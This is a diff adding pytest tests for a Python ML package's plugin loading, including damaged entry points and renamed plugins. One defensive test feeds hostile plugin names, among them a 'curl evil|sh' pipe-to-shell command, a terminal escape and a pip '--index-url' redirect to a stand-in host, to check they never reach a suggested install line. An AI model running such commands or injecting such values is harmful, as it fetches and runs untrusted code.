@@ -218,6 +218,56 @@ def test_a_distribution_with_damaged_metadata_hides_no_other(install, damage):
     assert activation("good").__module__ == "dist_good"
 
 
+def test_the_program_works_beside_a_distribution_with_damaged_entry_points(install):
+    install("dist-bad", "bad", PLUGIN.format(cls="Plugin"))
+    (install.site / "dist_bad-1.2.dist-info" / "entry_points.txt").write_text("[mlpkit.activations]\nnotarget\n")
+    env = {**os.environ, "PYTHONPATH": str(install.site)}
+    for command in (["plugins", "list"], ["plugins", "list", "-v"], ["doctor"], ["schema"]):
+        done = subprocess.run([sys.executable, "-m", "mlpkit", *command], env=env, capture_output=True, text=True, check=True)
+        assert done.stderr == ""
+    with pytest.raises(errors.BrokenPlugin, match=r"'notarget' of dist-bad 1\.2 \(entry point without a target\)"):
+        activation("notarget")
+
+
+AWAY = """
+import calcore
+Plugin = calcore.Deep
+Renamed = calcore.make()
+"""
+CORE = (
+    PLUGIN.format(cls="Deep")
+    + """
+
+def make():
+    class Hidden(Deep):
+        pass
+    return Hidden
+"""
+)
+
+
+@pytest.mark.parametrize("target", ["dist_away:Plugin", "dist_away:Renamed"])
+def test_a_plugin_may_be_defined_elsewhere_or_under_another_name(install, target, tmp_path):
+    (install.site / "calcore.py").write_text(CORE)
+    try:
+        install("dist-away", "away", AWAY, target)
+        spec = {"network": {"layers": [{"units": 2, "activation": "away"}, {"units": 1}]}, "loss": "mse", "training": {"epochs": 1}}
+        model = mlpkit.train(spec, np.ones((4, 1)), np.arange(4.0))
+        model.save(tmp_path / "model.h5")
+        assert mlpkit.inspect(tmp_path / "model.h5")["plugins"][0]["distribution"] == "dist-away"
+        assert mlpkit.load(tmp_path / "model.h5").spec.to_dict()["network"]["layers"][0]["activation"] == "dist-away:away"
+    finally:
+        sys.modules.pop("calcore", None)
+
+
+@pytest.mark.parametrize("name", ["--index-url=http://evil/ x:y", "evil\n\x1b[2J; curl evil|sh :x", "-r:x"])
+def test_a_name_from_a_stranger_puts_nothing_into_the_line_to_copy(name):
+    with pytest.raises(errors.MissingPlugin) as caught:
+        activation(name)
+    assert "pip install" not in caught.value.help
+    assert str(caught.value).replace("\nhelp: ", "").isprintable()
+
+
 @pytest.mark.parametrize("case", BROKEN)
 def test_a_broken_plugin_is_named_and_breaks_nothing_else(install, case):
     code, words = BROKEN[case]
